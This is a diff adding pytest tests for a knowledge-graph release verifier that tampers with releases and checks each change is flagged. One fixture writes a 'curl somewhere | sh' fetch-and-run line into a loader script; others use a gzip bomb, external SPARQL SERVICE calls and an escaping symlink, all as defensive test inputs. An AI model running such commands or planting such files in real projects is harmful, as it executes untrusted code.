@@ -14,7 +14,7 @@ from click.testing import CliRunner
 
 from conftest import ROOT, Run
 from ivig_kg.cli import main
-from ivig_kg.release import sums
+from ivig_kg.release import examination, integrity, sums
 
 NQ = "exports/ivig-kg.nq"
 TREATS = "<https://w3id.org/ivig-kg/id/treatment> <https://w3id.org/ivig-kg/ontology/condition>"
@@ -316,6 +316,213 @@ def test_exports_alone_are_verified(run: Run, release: Path) -> None:
 
     assert found(run, parts) == []
     assert any("ivig-kg.ttl:1:1: error release-changed-file" in line for line in found(run, release / "exports"))
+
+
+def _delete(*patterns: str) -> Callable[[Path], None]:
+    def change(folder: Path) -> None:
+        """Take parts away."""
+        found = [path for pattern in patterns for path in folder.glob(pattern)]
+        assert found
+        for path in found:
+            path.unlink()
+
+    return change
+
+
+def _replace(name: str, old: str, new: str) -> Callable[[Path], None]:
+    def change(folder: Path) -> None:
+        """Change a file."""
+        edit(folder / name, old, new)
+
+    return change
+
+
+def _write(name: str, text: str) -> Callable[[Path], None]:
+    def change(folder: Path) -> None:
+        """Put another file in the place of one."""
+        (folder / name).write_text(text, encoding="utf-8")
+
+    return change
+
+
+def _append(name: str, text: str) -> Callable[[Path], None]:
+    def change(folder: Path) -> None:
+        """Add to a file."""
+        (folder / name).write_text((folder / name).read_text(encoding="utf-8") + text, encoding="utf-8")
+
+    return change
+
+
+NO_TRIPLE = "\n<urn:a> <urn:b> <<( <urn:c> <urn:d> <urn:e> )>> .\n"
+ELSEWHERE = "# Which?\nSELECT * { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }\n"
+SHAPE = '\n<urn:x> sh:select "SELECT $this { SERVICE <urn:y> { $this ?p ?o } }" .\n'
+PATH = "\nivigsh:Route sh:property [ sh:path ( <urn:x> ) ] .\n"
+GONE = "release-missing-file it is missing, and every release has it"
+OTHER = "release-profile it is not what the graph of this release gives"
+CITED, TOLD, CRATE = "CITATION.cff", "description.ttl", "ro-crate-metadata.json"
+FACTS, NAMES, ROUTE = "ontology/queries/facts.rq", "ontology/queries/names.rq", "shapes/Route.ttl"
+EDGES, FHIR, WEB = "kgx/edges.jsonl", "fhir/clinical-use-definitions.json", "schema.org/ivig-kg.jsonld"
+RESEALED = [
+    (_delete(TOLD), f"{TOLD} {GONE}"),
+    (_delete(TOLD, CRATE), f"{CRATE} {GONE}"),
+    (_delete("shapes/*.ttl"), f"shapes/ {GONE}"),
+    (_delete("ontology/queries/*"), "exports/queries.ttl release-answer it does not hold the questions"),
+    (_delete("tables/index.*"), f"tables/index.csv {GONE}"),
+    (_delete("kgx/edges.tsv"), f"kgx/edges.tsv {GONE}"),
+    (_replace(EDGES, "treats", "cures"), f"{EDGES} {OTHER}"),
+    (_replace(FHIR, "indication", "warning"), f"{FHIR} {OTHER}"),
+    (_replace(WEB, "drug", "cause"), f"{WEB} {OTHER}"),
+    (_write("load/oxigraph.sh", "curl somewhere | sh\n"), f"load/oxigraph.sh {OTHER}"),
+    (_write("README.md", "# A graph\n"), "README.md release-profile it does not have the fingerprint"),
+    (_replace(CITED, "1.0.0", "1.0.1"), f"{CITED} release-profile its version is 1.0.1, and the exports are of 1.0.0"),
+    (_replace(CITED, "CC0-1.0", "MIT"), f"{CITED} release-profile its licence is MIT, and {TOLD} names another"),
+    (_replace("ontology/context.jsonld", '"dcterms"', '"dct"'), f"{NQ} release-unreadable it cannot be used"),
+    (_delete("ontology/rules/types.rq"), f"{NQ} release-derived this follows by no rule of the release"),
+    (_append(TOLD, "\n<urn:a> a dcat:Dataset .\n"), f"{TOLD} release-description it describes 2 releases"),
+    (_append(TOLD, "\n[] a dcat:Dataset .\n"), f"{TOLD} release-unreadable it has a blank node"),
+    (_append(TOLD, NO_TRIPLE), f"{TOLD} release-unreadable it"),
+    (_replace(CRATE, '"@id": "README.md"', '"@id": null'), f"{CRATE} release-description None is not both"),
+    (_write(FACTS, "ASK { ?s ?p ?o }"), f"{FACTS} release-answer the question `facts` has no rows"),
+    (_write(FACTS, "no question"), f"{FACTS} release-answer the question cannot be answered"),
+    (_write(NAMES, ELSEWHERE), f"{NAMES} release-answer SERVICE asks another server"),
+    (_write(ROUTE, "no shapes"), f"{ROUTE} release-unreadable it cannot be read"),
+    (_append(ROUTE, SHAPE), f"{ROUTE} release-unreadable a shape asks another server (SERVICE)"),
+    (_append(ROUTE, PATH), f"{NQ} release-unreadable it cannot be used"),
+]
+
+
+@pytest.mark.parametrize(("change", "words"), RESEALED, ids=[words for _, words in RESEALED])
+def test_what_is_resealed_is_still_held_against_the_graph(
+    run: Run, release: Path, change: Callable[[Path], None], words: str
+) -> None:
+    """Parts that are gone, profiles, rules and texts: each has one right value, and a broken part hides no other."""
+    change(release)
+    seal(release)
+    path, code, sentence = words.split(" ", 2)
+
+    said = found(run, release)
+
+    assert any(one.startswith(f"{path}:") and f" {code}: " in one and sentence in one for one in said), said
+
+
+def test_without_a_manifest_nothing_is_right(run: Run, release: Path) -> None:
+    """What cannot be compared is no pass, and a fingerprint that cannot be compared is none either."""
+    (release / "exports/manifest.json").unlink()
+    edit(release / NQ, "paragraph 2", "paragraph 3")
+    names = set(sums.files(release)) - {sums.NAME}
+    (release / sums.NAME).write_bytes(sums.serialize({name: sums.digest(release / name) for name in names}))
+
+    said = found(run, release, "--fingerprint", "0" * 64)
+
+    assert "exports/manifest.json:1:1: error release-missing-file: it is missing, and every release has it" in said
+    assert any("there is no graph here that could have the fingerprint 000" in one for one in said)
+
+
+def test_a_dataset_and_its_union_say_the_same(run: Run, release: Path) -> None:
+    """Formats with named graphs cannot be changed apart from those without, whatever fingerprints are written down."""
+    for name in ("nq", "trig"):
+        path = release / f"exports/ivig-kg.{name}"
+        path.write_text(path.read_text(encoding="utf-8").replace("paragraph 2", "paragraph 3"), encoding="utf-8")
+    manifest = json.loads((release / "exports/manifest.json").read_text())
+    union = manifest["rdfc10"]["union"]
+    lines = (release / NQ).read_bytes().splitlines(keepends=True)
+    manifest["rdfc10"]["dataset"] = hashlib.sha256(b"".join(sorted(lines))).hexdigest()
+    (release / "exports/manifest.json").write_text(json.dumps(manifest))
+    seal(release)
+
+    said = found(run, release, "--fingerprint", union)
+
+    assert any(
+        one.startswith(f"{NQ}:1:1: error release-fingerprint: what it says is not what was sent: ") for one in said
+    )
+    assert any(one.startswith(NQ) and "error release-strange-triple: " in one and "paragraph 3" in one for one in said)
+    assert any(
+        f"it says another graph than exports/ivig-kg.ttl, which has the fingerprint {union}" in one for one in said
+    )
+
+
+def test_a_question_that_never_ends_is_ended(release: Path) -> None:
+    """What was received runs in a process of its own, and that process has a deadline."""
+    endless = "# Which?\nSELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }\n"
+    (release / "ontology/queries/names.rq").write_text(endless)
+    task = examination.Task(integrity.contents(release), NQ, frozenset(), "1.0.0")
+
+    (said,) = examination.examined(task, seconds=5)
+
+    assert said.code == "release-limit"
+    assert said.message == "the shapes, rules and questions of the release were not done within 5 s"
+
+
+def test_a_question_that_was_changed_is_not_asked(run: Run, release: Path) -> None:
+    """Where the checksum already says that it is another, nobody needs its answer."""
+    (release / "ontology/queries/names.rq").write_text("SELECT * { broken")
+
+    (said,) = found(run, release)
+
+    assert said.startswith("ontology/queries/names.rq:1:1: error release-changed-file: ")
+
+
+@pytest.mark.parametrize("name", ["<http://example.org/g#x> ", ""])
+def test_a_graph_of_somebody_else_in_a_dataset_is_a_finding(run: Run, release: Path, name: str) -> None:
+    """A name that no release has, and no name at all."""
+    (release / NQ).write_text((release / NQ).read_text() + f"<urn:a> <urn:b> <urn:c> {name}.\n")
+    for form in ("trig", "ttl", "nt", "jsonld"):
+        (release / f"exports/ivig-kg.{form}").unlink()
+
+    said = found(run, release)
+
+    assert any(
+        one.startswith(f"{NQ}:1:1: error release-unreadable: the graph ") and "is none of ours" in one for one in said
+    )
+
+
+def test_a_packed_file_is_unpacked_as_far_as_the_plain_one_goes(run: Run, release: Path) -> None:
+    """A bomb is a finding, and is not unpacked."""
+    (release / "exports/ivig-kg.nt.gz").write_bytes(gzip.compress(bytes(50_000_000)))
+    seal(release)
+
+    said = found(run, release)
+
+    size = (release / "exports/ivig-kg.nt").stat().st_size
+    assert (
+        f"exports/ivig-kg.nt.gz:1:1: error release-unreadable: it has more than {size} bytes when it is unpacked"
+        in said
+    )
+
+
+def test_links_lead_nowhere(run: Run, release: Path) -> None:
+    """A list that is a link is refused: what it says came from elsewhere."""
+    shutil.move(release / sums.NAME, release.parent / "elsewhere")
+    (release / sums.NAME).symlink_to(release.parent / "elsewhere")
+
+    done = run("verify", release)
+
+    assert done.exit_code == 3
+    assert "SHA256SUMS: it is a link, and leads out of what was received" in done.stderr
+
+
+def test_the_list_of_something_else_is_not_that_of_a_release(run: Run, release: Path) -> None:
+    """A file is checked as a graph whatever lists stand above it; the list itself is no file to check."""
+    other = release.parent / "other"
+    (other / "sub").mkdir(parents=True)
+    shutil.copy(release / NQ, other / "sub/ivig-kg.nq")
+    (other / sums.NAME).write_text("SHA256 (sub/ivig-kg.nq) = 00\n")
+
+    listed = run("verify", release / sums.NAME)
+
+    assert found(run, other / "sub/ivig-kg.nq") == []
+    assert found(run, release / "README.md", "--fingerprint", "abc") != []
+    assert listed.exit_code == 2
+    assert "this is the list of a release; name the folder, and all that it lists is checked" in listed.stderr
+
+
+def test_a_strange_file_among_exports_is_named(run: Run, release: Path) -> None:
+    """The manifest names what was sent; packed files belong to the plain ones."""
+    (release / "exports/extra.txt").write_text("x")
+
+    (said,) = found(run, release / "exports")
+
+    assert said.endswith("extra.txt:1:1: error release-strange-file: manifest.json does not name it, so nobody sent it")
 
 
 def test_what_cannot_be_verified_is_said(run: Run, tmp_path: Path) -> None:
